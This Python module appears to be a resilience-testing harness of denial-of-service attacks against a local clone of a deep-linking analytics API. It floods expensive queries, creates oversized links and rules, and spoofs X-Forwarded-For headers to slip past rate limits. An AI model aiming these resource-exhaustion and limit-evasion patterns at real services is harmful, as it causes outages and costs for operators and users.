"""Costly calls of a customer, who has an app's secret and tokens."""

import itertools

from attacks.registry import attack
from attacks.sending import flood, rounds
from traffic import Outcome, pipeline, request


@attack
def questions_by_long_lists(target, until, number):
    """analytics by three columns of a link whose data has three lists of 320 values"""
    lists = {name: [str(value) for value in range(320)] for name in ("~creative_name", "~creative_id", "~placement")}
    outcome = Outcome()
    pipeline(target.port, [
        request("POST", "/v1/url", {"branch_key": target.key, "alias": f"lists{number}", "data": lists}),
        request("GET", f"/lists{number}")], outcome)
    by = "".join(f"&by=last_attributed_touch_data_tilde_{name[1:]}" for name in lists)
    question = request(
        "GET", f"/api/v1/analytics/top?app={target.app_id}{by}", headers={"Authorization": f"Bearer {target.token}"})
    outcome.add(flood(target, until, [question] * 4))
    return outcome


@attack
def questions_about_many_queries(target, until, number):
    """analytics by the data of a link of 59 KB that was visited with a thousand queries"""
    data = {f"key{member}": "g" * 50 for member in range(900)}
    outcome = Outcome()
    pipeline(target.port, [
        request("POST", "/v1/url", {"branch_key": target.key, "alias": f"queries{number}", "data": data}),
        *[request("GET", f"/queries{number}?a={visit}") for visit in range(min(1000, 5 * target.at_once))]], outcome)
    question = request(
        "GET", f"/api/v1/analytics/counts?app={target.app_id}&by=stage", headers={"Authorization": f"Bearer {target.token}"})
    outcome.add(flood(target, until, [question] * 4))
    return outcome


@attack
def questions_about_many_links(target, until, number):
    """questions of six networks about the figures of each of 30,000 links, which have titles of 800 bytes"""
    questions = [
        request("GET", f"/api/v1/analytics/{question}app={target.app_id}&by=link", headers={
            "Authorization": f"Bearer {target.token}", "X-Forwarded-For": f"198.18.{10 * number + network}.9"})
        for question in ("top?limit=50000&", "funnel?", "ltv?") for network in range(3)]
    # As many as the limits admit.
    return rounds(target, until, [[question] for question in questions * max(1, target.at_once // 40)], pause=3)


@attack
def many_reward_rules(target, until, number):
    """events that 300 reward rules with filters of 60 KB are about"""
    rule = {
        "branch_key": target.key, "branch_secret": target.secret, "type": "credit", "event": "boom", "calculation_type": 0,
        "location": 0, "metadata": {"amount": 1}}
    filters = [{f"key{member}": "g" * 20 for member in range(members)} for members in (1800, 18)]
    outcome = Outcome()
    pipeline(target.port, [
        request("POST", "/v1/eventresponse", rule | {"filter": filters[index % 2] | {"index": f"{number}-{index}"}})
        for index in range(min(300, 3 * target.at_once // 2))], outcome)
    event = {"branch_key": target.key, "event": "boom", "developer_identity": "ann"}
    outcome.add(flood(target, until, [request("POST", "/v1/event", event)] * 8))
    return outcome


@attack
def histories_of_much_metadata(target, until, number):
    """histories of a hundred credits that have as many members of metadata as a server may give"""
    grant = {
        "branch_key": target.key, "branch_secret": target.secret, "identity": f"rich{number}", "amount": 1, "event": "gift",
        "metadata": {f"m{member}": 0 for member in range(180)}}
    outcome = Outcome()
    pipeline(target.port, [request("POST", "/v1/credits", grant) for _ in range(100)], outcome)
    history = {"branch_key": target.key, "identity": grant["identity"], "length": 100}
    sender = {"X-Forwarded-For": f"203.0.113.{number}"}
    outcome.add(flood(target, until, [request("POST", "/v1/credithistory", history, sender)] * 8))
    return outcome


@attack
def lists_of_large_orders(target, until, number):
    """lists of exports whose filters have a thousand texts"""
    order = {
        "report_type": "eo_click", "start_date": "yesterday", "end_date": "yesterday",
        "filter": ["in", "last_attributed_touch_data_tilde_campaign", ["g" * 50 for _ in range(999)]]}
    auth = {"Authorization": f"Bearer {target.token}"}
    path = f"/api/v1/exports?app={target.app_id}"
    outcome = Outcome()
    pipeline(target.port, [request("POST", path, order, auth) for _ in range(min(60, target.at_once))], outcome)
    outcome.add(flood(target, until, [request("GET", path + "&limit=200", headers=auth)] * 4))
    return outcome


@attack
def totals_beside_many_clicks(target, until, number):
    """totals of a piece of content, of six networks, beside visits that were not counted yet"""
    link = {"branch_key": target.key, "alias": f"pear{number}", "data": {"$canonical_identifier": f"pear/{number}"}}
    outcome = Outcome()
    pipeline(target.port, [request("POST", "/v1/url", link)], outcome)
    senders = [{"X-Forwarded-For": f"198.18.{10 * number + network}.7"} for network in range(3)]
    path = f"/api/v1/content/object?app={target.app_id}&identifier=pear/{number}"
    totals = [request("GET", path, headers=sender | {"Authorization": f"Bearer {target.token}"}) for sender in senders]
    visits = [request("GET", f"/pear{number}", headers=sender) for sender in senders]
    outcome.add(rounds(target, until, [totals, visits] * max(1, target.at_once // 12)))
    return outcome


@attack
def pages_of_other_origins(target, until, number):
    """JSONP on calls that are not the SDKs'"""
    auth = {"Authorization": f"Bearer {target.token}"}
    paths = [f"/api/v1/analytics/counts?app={target.app_id}&callback=f", f"/v1/credits?branch_key={target.key}&identity=ann&callback=f"]
    return flood(target, until, [request("GET", path, headers=auth) for path in paths] * 8)


@attack
def changes_of_an_app(target, until, number):
    """changes of an app's name in the association files, as many as the limits admit to eight tokens, beside requests for these files"""
    numbers = itertools.count()
    files = [
        [request("GET", f"/.well-known/{name}", headers={"Host": f"127.0.0.1:{target.port}", "X-Forwarded-For": f"198.21.{number}.{host}"})]
        for host in range(1, 1 + target.at_once // 10) for name in ("apple-app-site-association", "assetlinks.json")]

    def change(index):
        body = {"settings": {"ios_bundle_id": f"com.example.orchard{number}x{next(numbers)}"}}
        sender = {"Authorization": f"Bearer {target.admin_tokens[index]}", "X-Forwarded-For": f"198.22.{8 * number + index}.7"}
        return [request("PATCH", f"/api/v1/apps/{target.key}", body, sender)]

    return rounds(target, until, lambda: files + [change(index) for index in range(len(target.admin_tokens))], pause=0.1)
